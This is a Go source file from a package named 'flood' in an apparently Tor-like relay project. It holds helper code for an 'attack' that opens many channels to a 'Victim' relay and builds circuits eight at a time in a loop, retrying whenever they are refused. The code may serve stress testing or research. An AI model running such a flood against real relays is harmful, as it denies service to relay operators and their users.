package flood

import (
	"context"
	"sync"
	"time"

	"github.com/chivenet/chive/internal/cell"
	"github.com/chivenet/chive/internal/channel"
	"github.com/chivenet/chive/internal/circuit"
	"github.com/chivenet/chive/internal/fault"
	"github.com/chivenet/chive/internal/handshake"
)

var errOver = fault.New(fault.Closed, "the flood is over")

// channel opens the i-th connection to a relay, as a channel. It also returns the
// connection, so that the caller can stop its reading.
func (a *attack) channel(ctx context.Context, i int, to *Peer) (*channel.Channel, *gated, error) {
	conn, err := a.dial(ctx, i, to.OR)
	if err != nil {
		return nil, nil, err
	}
	ch, err := connect(ctx, conn, to, a)
	return ch, conn, err
}

func connect(ctx context.Context, conn *gated, to *Peer, a *attack) (*channel.Channel, error) {
	t, err := to.target()
	if err != nil {
		conn.Close()
		return nil, err
	}
	ctx, cancel := context.WithTimeout(ctx, setupTime)
	defer cancel()
	l, err := channel.Connect(ctx, conn, t.RelayID, to.OR, &channel.LinkConfig{Log: a.log})
	if err != nil {
		return nil, err
	}
	return channel.Start(l, &channel.Config{Log: a.log, Now: time.Now}), nil
}

// build makes a circuit through relays, starting with the channel's peer. A
// single hop is made with CREATE_FAST. more changes the options that are offered
// to the hops; it may be nil.
func build(ctx context.Context, a *attack, ch *channel.Channel, more func(*circuit.HopOptions), path ...*Peer) (*circuit.Circuit, error) {
	ctx, cancel := context.WithTimeout(ctx, setupTime)
	defer cancel()
	env := &circuit.Env{Log: a.log, Now: time.Now}
	var c *circuit.Circuit
	for i, p := range path {
		t, err := p.target()
		if err != nil {
			return nil, err
		}
		var opts circuit.HopOptions
		if len(path) == 1 {
			opts.Handshake = handshake.Fast
		}
		if more != nil && i == len(path)-1 {
			more(&opts)
		}
		if i == 0 {
			c, err = circuit.Create(ctx, env, ch, t, opts)
		} else {
			err = c.Extend(ctx, t, opts)
		}
		if err != nil {
			return nil, err
		}
	}
	return c, nil
}

// channels opens the channels of the budget to the victim, and runs f on each
// until it returns or the channel closes.
func (a *attack) channels(ctx context.Context, f func(ctx context.Context, ch *channel.Channel, conn *gated) error) error {
	return a.each(ctx, func(ctx context.Context, i int) error {
		ch, conn, err := a.channel(ctx, i, &a.Victim)
		if err != nil {
			return err
		}
		defer shutdown(ch)
		return f(ctx, ch, conn)
	})
}

// shutdown closes a channel and waits until it is closed.
func shutdown(ch *channel.Channel) {
	ch.Close(errOver)
	<-ch.Done()
}

// stay waits until the channel closes, or ctx is done.
func stay(ctx context.Context, ch *channel.Channel) error {
	select {
	case <-ch.Done():
		return ch.Err()
	case <-ctx.Done():
		return context.Cause(ctx)
	}
}

// many builds n circuits, a few at the same time, with f. It returns the first
// error, but continues with the others while the channel is open.
func (a *attack) many(ctx context.Context, ch *channel.Channel, n int, f func(ctx context.Context) error) (first error) {
	const atATime = 8
	var mu sync.Mutex
	var wg sync.WaitGroup
	for range min(atATime, n) {
		wg.Go(func() {
			for ctx.Err() == nil && ch.Err() == nil {
				mu.Lock()
				n--
				over := n < 0
				mu.Unlock()
				if over {
					return
				}
				if err := f(ctx); err != nil && ctx.Err() == nil {
					a.refused.Add(1)
					mu.Lock()
					if first == nil {
						first = err
					}
					mu.Unlock()
					a.note(err)
					pause(ctx, retry)
				}
			}
		})
	}
	wg.Wait()
	return first
}

// ignore is a stream that accepts everything and does nothing.
type ignore struct{}

func (ignore) HandleMessage(cell.RelayMsg, time.Time) error { return nil }
func (ignore) Flush()                                       {}
func (ignore) HandleCircuitClose(error)                     {}
